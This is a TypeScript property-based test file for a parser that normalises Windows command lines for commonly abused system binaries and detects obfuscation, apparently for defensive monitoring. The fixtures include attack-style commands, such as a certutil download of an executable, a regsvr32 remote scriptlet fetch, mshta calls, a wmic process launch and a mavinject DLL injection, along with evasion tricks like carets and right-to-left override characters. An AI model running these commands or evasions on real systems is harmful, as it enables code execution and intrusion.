import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { anyCharacter } from '@/fixtures/any-character'
import { faultsOf } from '@/fixtures/faithful-reading'
import { mayHost, readHosted, readToolUse } from './read-tool-use'

const SLUGS = [
  ...[
    'rundll32.exe',
    'regsvr32.exe',
    'mshta.exe',
    'hh.exe',
    'msiexec.exe',
    'msbuild.exe',
    'installutil.exe',
    'regasm.exe',
  ],
  ...[
    'regsvcs.exe',
    'cmstp.exe',
    'infdefaultinstall.exe',
    'odbcconf.exe',
    'control.exe',
    'wmic.exe',
    'certutil.exe',
  ],
  ...[
    'bitsadmin.exe',
    'cscript.exe',
    'wscript.exe',
    'pcalua.exe',
    'forfiles.exe',
    'mmc.exe',
    'mavinject.exe',
    'verclsid.exe',
  ],
  ...['osascript', 'powershell.exe', 'unknown.exe'],
]
const LINE_LENGTH = 32_768

function patternOf(slug: string, line: string): string | undefined {
  return readToolUse(slug, line, `C:\\Windows\\System32\\${slug}`)?.pattern
}

describe('any command line', () => {
  test.each([[null], [''], ['   ']])('%j was not reported, which is not the same as unseen', (line) => {
    expect(readToolUse('rundll32.exe', line, 'rundll32.exe')).toBeNull()
  })

  const words = fc.constantFrom(
    ...[
      '"',
      '\\',
      '/',
      '-',
      ' ',
      ',',
      '.',
      '#1',
      ':',
      '{',
      '}',
      '=',
      '%',
      '^',
      '@',
      '\0',
      '\t',
      '\n',
      '\u202e',
      '\u2013',
    ],
    ...[
      'rundll32',
      '/i:',
      '/c',
      '/a',
      'regsvr',
      'http://',
      'C:\\Windows\\',
      'x.dll',
      'javascript:',
      'script:',
      '-e',
      '//e:',
      'create',
    ],
    ...[
      'call',
      '%temp%',
      '::',
      '~1',
      '..\\',
      '12345',
      'process',
      'shell32.dll,Control_RunDLL',
      '-sta',
      '{0002DF01-0000-0000-C000-000000000046}',
    ],
  )
  const shaped = fc.array(words, { maxLength: 24 }).map((all) => all.join(''))

  test('is read without an error, with spans inside it, facts of the vocabulary and a bounded pattern', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...SLUGS),
        fc.oneof(shaped, fc.string({ unit: anyCharacter })),
        (slug, line) => {
          const use = readToolUse(slug, line, slug)
          expect(use === null ? [] : faultsOf(line, use)).toEqual([])
        },
      ),
      { numRuns: 3000 },
    )
  })

  test('what it hosts is the same where only that is asked for', () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.constantFrom(...SLUGS), fc.constantFrom('rundll32.exe', 'cscript.exe', 'wscript.exe')),
        fc.oneof(shaped, fc.string({ unit: anyCharacter })),
        (slug, line) => {
          const hosted = readToolUse(slug, line, slug)?.hosted ?? null
          expect(readHosted(slug, line, slug)).toBe(hosted)
          expect(hosted === null || mayHost(slug)).toBe(true)
        },
      ),
      { numRuns: 2000 },
    )
  })

  test.each(SLUGS)('%s: 32 kB of anything is read in bounded time and marked as cut', (slug) => {
    for (const unit of [
      'a',
      '"',
      '\\',
      ' ',
      '/a ',
      '1.',
      '-e ',
      'http://',
      '..\\',
      '%a%',
      'é',
      ',',
      '^a',
      'a@',
      '{"',
      '/i:',
    ]) {
      const line = `x ${unit.repeat(LINE_LENGTH / unit.length)}`
      const use = readToolUse(slug, line, 'x.exe')
      // of blanks nothing is left to cut
      expect(use?.facts).toContain(unit === ' ' ? 'padded' : 'truncated')
    }
  })
})

describe('two runs of the same thing have one pattern', () => {
  test.each([
    [
      'rundll32.exe',
      'rundll32 C:\\Users\\ann\\AppData\\Local\\Temp\\MSI1A2B.tmp,Call SfxCA_1234567 2 x!y',
      'RUNDLL32.EXE "C:\\Users\\Bob B\\AppData\\Local\\Temp\\MSI77.tmp",Call SfxCA_99881 3 x!y',
    ],
    [
      'rundll32.exe',
      'rundll32.exe shell32.dll,RunAsNewUser_RunDLL Local\\{4ddb9f3f-700c-4bd6-9fc0-eaf85c01d25b}.00000b94',
      'rundll32 C:\\Windows\\SysWOW64\\shell32.dll,RunAsNewUser_RunDLL Local\\{11db9f3f-700c-4bd6-9fc0-eaf85c01d25b}.00001234',
    ],
    [
      'regsvr32.exe',
      'regsvr32 /s "C:\\Program Files\\Vendor\\a.dll"',
      'C:\\Windows\\system32\\regsvr32.exe  -s C:\\PROGRA~1\\Vendor\\A.DLL',
    ],
    [
      'mavinject.exe',
      'mavinject 12 /INJECTRUNNING C:\\x\\a.dll',
      'mavinject.exe 48512 -injectrunning c:\\X\\A.dll',
    ],
    [
      'msiexec.exe',
      'msiexec -Embedding 772A9CF421EEC37E11490F01D0EDD091 C',
      'MsiExec.exe -Embedding 0A2A9CF421EEC37E11490F01D0EDD0FF C',
    ],
    [
      'certutil.exe',
      'certutil -urlcache -f http://10.0.0.1/a.exe b.exe',
      'certutil.exe /URLCACHE /f http://10.99.3.7/z.exe b.exe',
    ],
    [
      'cscript.exe',
      'cscript //nologo %windir%\\System32\\slmgr.vbs',
      'cscript.exe //NoLogo C:/Windows/System32/../System32/slmgr.vbs',
    ],
  ])('%s %s', (slug, first, second) => {
    expect(patternOf(slug, second)).toBe(patternOf(slug, first))
  })
})

describe('different behaviour has different patterns', () => {
  test.each([
    [
      'rundll32.exe',
      'rundll32 C:\\Program Files\\A\\a.dll,Start',
      'rundll32 C:\\Program Files\\A\\a.dll,Stop',
    ],
    ['rundll32.exe', 'rundll32 C:\\x\\a.dll,#1', 'rundll32 C:\\x\\a.dll,#2'],
    [
      'rundll32.exe',
      'rundll32 "C:\\Program Files\\A\\a.dll",Go',
      'rundll32 "C:\\Program Files\\B\\a.dll",Go',
    ],
    [
      'rundll32.exe',
      'rundll32 shell32.dll,Control_RunDLL',
      'rundll32 shell32.dll,Control_RunDLL C:\\x\\a.cpl',
    ],
    ['regsvr32.exe', 'regsvr32 /i:http://h.example/a.sct scrobj.dll', 'regsvr32 /i:C:\\x\\a.sct scrobj.dll'],
    ['certutil.exe', 'certutil -decode a b', 'certutil -encode a b'],
    ['wmic.exe', 'wmic process list', 'wmic process call create calc'],
    [
      'verclsid.exe',
      'verclsid /S /C {00000000-0000-0000-0000-000000000001}',
      'verclsid /S /C {00000000-0000-0000-0000-000000000002}',
    ],
    ['mshta.exe', 'mshta https://a.example/x.hta', 'mshta https://b.example/x.hta'],
    ['mmc.exe', 'mmc C:\\x\\a.msc', 'mmc services.msc'],
  ])('%s %s', (slug, first, second) => {
    expect(patternOf(slug, second)).not.toBe(patternOf(slug, first))
  })
})

describe('disguises', () => {
  test.each([
    ['regsvr32 /s C:\\x\\Ann\u202elld.dll', 'deceptive-characters'],
    ['regsvr32 /s sh\u0435ll.dll', 'deceptive-characters'],
    ['regsvr32 /s \uff43\uff1a\\x\\a.dll', 'obfuscated'],
    ['regsvr32 /s "C:\\x\\a""b""c.dll"', 'obfuscated'],
    ['regsvr32 /s %comspec:~0,3%x\\a.dll', 'obfuscated'],
    ['regsvr32 \u2013s a.dll', 'obfuscated'],
    ['regsvr32 /s C:\\x\\r^e^g.dll', 'obfuscated'],
    ['r"eg"s"V"r32 /s C:\\x\\a.dll', 'obfuscated'],
    ['regsvr32 /s C:\\x\\a.dll revreSretsigeRllD', 'obfuscated'],
    ['regsvr32 /s C:\\x\\a.dll //:sptth', 'obfuscated'],
  ])('%s shows %s', (line, fact) => {
    expect(readToolUse('regsvr32.exe', line, 'regsvr32.exe')?.facts).toContain(fact)
  })

  test('quotes within the name of the program hide nothing of what it is told', () => {
    const use = readToolUse(
      'cscript.exe',
      'c"sc"r"I"P"t" C:\\Users\\ann\\AppData\\Local\\Temp\\a.vbs',
      'C:\\Windows\\System32\\cscript.exe',
    )
    expect(use).toMatchObject({ pattern: 'cscript <user-temp>\\*.vbs', facts: ['user-temp', 'obfuscated'] })
  })

  test('an accent, a dash in a name or one caret is none', () => {
    const use = readToolUse(
      'regsvr32.exe',
      'regsvr32 /s "C:\\Program Files\\Caf\u00e9 \u2013 1\\a^b.dll"',
      'regsvr32.exe',
    )
    expect(use?.facts).toEqual([])
  })

  test('NULs between all letters change nothing', () => {
    const line = 'rundll32 url.dll,OpenURL a.url'
    expect(patternOf('rundll32.exe', [...line].join('\0'))).toContain('url.dll')
  })
})

test('spans colour the original text', () => {
  const line = 'regsvr32.exe  /s /i:http://h.example/a.sct "scrobj.dll" 77'
  const parts = readToolUse('regsvr32.exe', line, 'regsvr32.exe')?.parts ?? []
  expect(parts.map(({ start, end, kind }) => [kind, line.slice(start, end)])).toEqual([
    ['executable', 'regsvr32.exe'],
    ['switch', '/s'],
    ['url', '/i:http://h.example/a.sct'],
    ['path', '"scrobj.dll"'],
    ['masked', '77'],
  ])
})
